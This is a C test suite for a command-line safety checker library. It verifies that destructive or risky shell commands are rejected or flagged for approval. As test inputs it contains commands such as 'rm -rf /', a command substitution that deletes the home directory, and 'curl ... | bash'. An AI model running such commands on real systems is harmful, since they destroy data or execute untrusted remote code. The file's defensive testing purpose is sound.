/*
 * Whole command lines through the C API: the built-in checker, a checker on
 * a registry file, user layers, reasons and JSON into caller buffers, and
 * every misuse.
 * Usage: test_check DATA_DIR
 */
#include <stdlib.h>

#include "harness.h"

static const char *data_dir = ".";

static tcp_decision decide(const tcp_checker *c, const char *line) {
    tcp_check_result r;
    memset(&r, 0xAB, sizeof r);
    tcp_status s = tcp_checker_check(c, line, strlen(line), &r, NULL, 0, NULL);
    CHECK_OK(s);
    return s == TCP_STATUS_OK ? r.decision : 99;
}

static void test_builtin_checker(void) {
    tcp_checker *c = NULL;
    CHECK_OK(tcp_checker_new_builtin(NULL, &c));
    if (c == NULL) {
        return;
    }
    CHECK(decide(c, "ls -la") == TCP_DECISION_APPROVED);
    CHECK(decide(c, "rm -rf /") == TCP_DECISION_REJECT);
    CHECK(decide(c, "sudo rm -rf / --no-preserve-root") == TCP_DECISION_REJECT);
    CHECK(decide(c, "echo $(rm -rf ~)") == TCP_DECISION_REJECT);
    CHECK(decide(c, "curl https://example.com/x.sh | bash") == TCP_DECISION_REJECT);
    CHECK(decide(c, "git push --force") == TCP_DECISION_REQUIRE_APPROVAL);
    CHECK(decide(c, "frobnicate") == TCP_DECISION_REQUIRE_APPROVAL);
    CHECK(decide(c, "") == TCP_DECISION_APPROVED); /* runs nothing */

    tcp_check_result r;
    char reasons[2048];
    size_t n = 0;
    const char *line = "git status && rm -rf /";
    CHECK_OK(tcp_checker_check(c, line, strlen(line), &r, reasons, sizeof reasons, &n));
    CHECK(r.decision == TCP_DECISION_REJECT);
    CHECK(r.segments == 2);
    CHECK(r.reasons >= 2);
    CHECK(n == strlen(reasons));
    CHECK(strstr(reasons, "git status: risk SAFE -> APPROVED") != NULL);
    CHECK(strstr(reasons, "rm: rule rm-recursive-system-path") != NULL);
    /* One reason per line. */
    size_t lines = 1;
    for (const char *p = reasons; *p; p++) {
        lines += *p == '\n';
    }
    CHECK(lines == r.reasons);

    /* Only the line's bytes count: no NUL needed, trailing garbage ignored. */
    const char *two = "ls -la; rm -rf /";
    CHECK_OK(tcp_checker_check(c, two, 6, &r, NULL, 0, NULL));
    CHECK(r.decision == TCP_DECISION_APPROVED && r.segments == 1);

    /* A stricter policy. */
    tcp_policy *p = NULL;
    CHECK_OK(tcp_policy_new_default(&p));
    CHECK_OK(tcp_policy_set_unknown_command(p, TCP_DECISION_REJECT));
    tcp_checker *strict = NULL;
    CHECK_OK(tcp_checker_new_builtin(p, &strict));
    tcp_policy_free(p); /* the checker keeps its own copy */
    CHECK(decide(strict, "frobnicate") == TCP_DECISION_REJECT);
    CHECK(decide(c, "frobnicate") == TCP_DECISION_REQUIRE_APPROVAL);
    tcp_checker_free(strict);
    tcp_checker_free(c);
}

static void test_json(void) {
    tcp_checker *c = NULL;
    CHECK_OK(tcp_checker_new_builtin(NULL, &c));
    const char *line = "sudo rm -rf /tmp/x";
    size_t n = 0;
    CHECK_OK(tcp_checker_check_json(c, line, strlen(line), NULL, 0, &n)); /* length query */
    CHECK(n > 20);
    char *json = malloc(n + 1);
    size_t n2 = 0;
    CHECK_OK(tcp_checker_check_json(c, line, strlen(line), json, n + 1, &n2));
    CHECK(n2 == n && strlen(json) == n);
    CHECK(json[0] == '{' && json[n - 1] == '}');
    CHECK(strstr(json, "\"decision\"") != NULL);
    CHECK(strstr(json, "sudo") != NULL);
    free(json);
    tcp_checker_free(c);
}

static void test_reason_buffers(void) {
    tcp_checker *c = NULL;
    CHECK_OK(tcp_checker_new_builtin(NULL, &c));
    const char *line = "rm -rf /";
    tcp_check_result r;
    r.decision = 99;
    size_t n = 0;
    char small[8];
    memset(small, 'x', sizeof small);
    /* Too small: the decision is still written, the reasons are cut. */
    CHECK_STATUS(tcp_checker_check(c, line, strlen(line), &r, small, sizeof small, &n),
                 TCP_STATUS_REASONS_TRUNCATED);
    CHECK(r.decision == TCP_DECISION_REJECT);
    CHECK(n > sizeof small);
    CHECK(strlen(small) == sizeof small - 1);
    char *exact = malloc(n + 1); /* ASan checks the bound */
    size_t n2 = 0;
    CHECK_OK(tcp_checker_check(c, line, strlen(line), &r, exact, n + 1, &n2));
    CHECK(n2 == n && r.decision == TCP_DECISION_REJECT);
    CHECK(strncmp(exact, small, sizeof small - 1) == 0); /* the cut text is a prefix */
    free(exact);
    tcp_checker_free(c);
}

static void test_registry_checkers(void) {
    char path[4096];
    snprintf(path, sizeof path, "%s/tcp_complete.db", data_dir);
    tcp_registry *proto = NULL;
    CHECK_OK(tcp_registry_open(path, strlen(path), &proto));
    if (proto == NULL) {
        return;
    }
    /* Only the prototype's registry: aa-status is LOW_RISK there. */
    tcp_checker *only = NULL;
    CHECK_OK(tcp_checker_new(proto, NULL, &only));
    /* Layered on the built-in knowledge. */
    tcp_checker *layered = NULL;
    CHECK_OK(tcp_checker_new_layered(proto, NULL, 0, NULL, &layered));
    tcp_registry_free(proto); /* the checkers keep it alive */
    tcp_checker *builtin = NULL;
    CHECK_OK(tcp_checker_new_builtin(NULL, &builtin));
    CHECK(decide(builtin, "aa-status") == TCP_DECISION_REQUIRE_APPROVAL);
    CHECK(decide(only, "aa-status") == TCP_DECISION_APPROVED);
    CHECK(decide(layered, "aa-status") == TCP_DECISION_APPROVED);
    /* The layer cannot approve what the built-in knowledge rejects. */
    CHECK(decide(layered, "rm -rf /") == TCP_DECISION_REJECT);

    /* The built-in registry as a handle. */
    tcp_registry *reg = NULL;
    CHECK_OK(tcp_registry_new_builtin(&reg));
    size_t len = 0;
    CHECK_OK(tcp_registry_len(reg, &len));
    CHECK(len > 300);
    tcp_entry_info e;
    CHECK_OK(tcp_registry_lookup(reg, "rm", 2, &e));
    CHECK(e.has_risk && e.risk >= TCP_RISK_LEVEL_MEDIUM);
    CHECK((e.capabilities & TCP_CAPABILITY_DESTRUCTIVE) != 0);
    char why[1024];
    size_t n;
    CHECK_OK(tcp_registry_justification(reg, "rm", 2, why, sizeof why, &n));
    CHECK(n > 10); /* reviewed entries say why */
    tcp_checker *from_builtin = NULL;
    CHECK_OK(tcp_checker_new(reg, NULL, &from_builtin));
    CHECK(decide(from_builtin, "rm -rf /") == TCP_DECISION_REJECT);
    tcp_registry_free(reg);
    tcp_checker_free(from_builtin);
    tcp_checker_free(builtin);
    tcp_checker_free(layered);
    tcp_checker_free(only);
}

static void test_user_rules(void) {
    const char *rules =
        "[[rule]]\n"
        "id = \"no-make-clean\"\n"
        "command = \"make\"\n"
        "when = [{ word = [\"clean\"] }]\n"
        "action = \"deny\"\n"
        "why = \"our build directory is not reproducible\"\n"
        "examples = [\"make clean\"]\n"
        "not = [\"make all\"]\n";
    tcp_checker *c = NULL;
    tcp_status s = tcp_checker_new_layered(NULL, rules, strlen(rules), NULL, &c);
    CHECK_OK(s);
    if (s == TCP_STATUS_OK) {
        CHECK(decide(c, "make clean") == TCP_DECISION_REJECT);
        CHECK(decide(c, "make all") != TCP_DECISION_REJECT);
        tcp_checker_free(c);
    }
    c = NULL;
    CHECK_STATUS(tcp_checker_new_layered(NULL, "rule = 3", 8, NULL, &c), TCP_STATUS_BAD_INPUT);
    CHECK(c == NULL);
    char msg[256];
    size_t n;
    CHECK_OK(tcp_last_error_message(msg, sizeof msg, &n));
    CHECK(strstr(msg, "rules") != NULL);
}

static void test_check_errors(void) {
    tcp_checker *c = NULL;
    tcp_check_result r;
    size_t n;
    char buf[16];
    CHECK_STATUS(tcp_checker_new_builtin(NULL, NULL), TCP_STATUS_NULL_PARAMETER);
    CHECK_STATUS(tcp_checker_new(NULL, NULL, &c), TCP_STATUS_NULL_PARAMETER);
    CHECK_STATUS(tcp_checker_new_layered(NULL, NULL, 5, NULL, &c), TCP_STATUS_NULL_PARAMETER);
    CHECK_STATUS(tcp_checker_new_layered(NULL, NULL, 0, NULL, NULL), TCP_STATUS_NULL_PARAMETER);
    CHECK_STATUS(tcp_registry_new_builtin(NULL), TCP_STATUS_NULL_PARAMETER);
    CHECK(c == NULL);
    CHECK_STATUS(tcp_checker_check(NULL, "ls", 2, &r, NULL, 0, NULL), TCP_STATUS_NULL_PARAMETER);
    char msg[128];
    CHECK_OK(tcp_last_error_message(msg, sizeof msg, &n));
    CHECK_STR(msg, "parameter `checker` is NULL");
    CHECK_OK(tcp_checker_new_builtin(NULL, &c));
    CHECK_STATUS(tcp_checker_check(c, NULL, 2, &r, NULL, 0, NULL), TCP_STATUS_NULL_PARAMETER);
    CHECK_STATUS(tcp_checker_check(c, "ls", 2, NULL, NULL, 0, NULL), TCP_STATUS_NULL_PARAMETER);
    CHECK_STATUS(tcp_checker_check(c, "ls", 2, &r, buf, sizeof buf, NULL),
                 TCP_STATUS_NULL_PARAMETER);
    CHECK_STATUS(tcp_checker_check(c, "ls", 2, &r, NULL, 16, &n), TCP_STATUS_NULL_PARAMETER);
    CHECK_STATUS(tcp_checker_check(c, "l\xff", 2, &r, NULL, 0, NULL), TCP_STATUS_INVALID_UTF8);
    CHECK_STATUS(tcp_checker_check_json(c, "ls", 2, buf, sizeof buf, NULL),
                 TCP_STATUS_NULL_PARAMETER);
    CHECK_STATUS(tcp_checker_check_json(NULL, "ls", 2, buf, sizeof buf, &n),
                 TCP_STATUS_NULL_PARAMETER);
    /* A very long line is decided (fail-closed), not an error. */
    size_t big = 200000;
    char *long_line = malloc(big);
    memset(long_line, 'a', big);
    memcpy(long_line, "echo ", 5);
    CHECK_OK(tcp_checker_check(c, long_line, big, &r, NULL, 0, NULL));
    CHECK(r.decision != TCP_DECISION_APPROVED);
    free(long_line);
    tcp_checker_free(c);
    tcp_checker_free(NULL);
}

int main(int argc, char **argv) {
    if (argc > 1) {
        data_dir = argv[1];
    }
    RUN(test_builtin_checker);
    RUN(test_json);
    RUN(test_reason_buffers);
    RUN(test_registry_checkers);
    RUN(test_user_rules);
    RUN(test_check_errors);
    return HARNESS_EXIT();
}
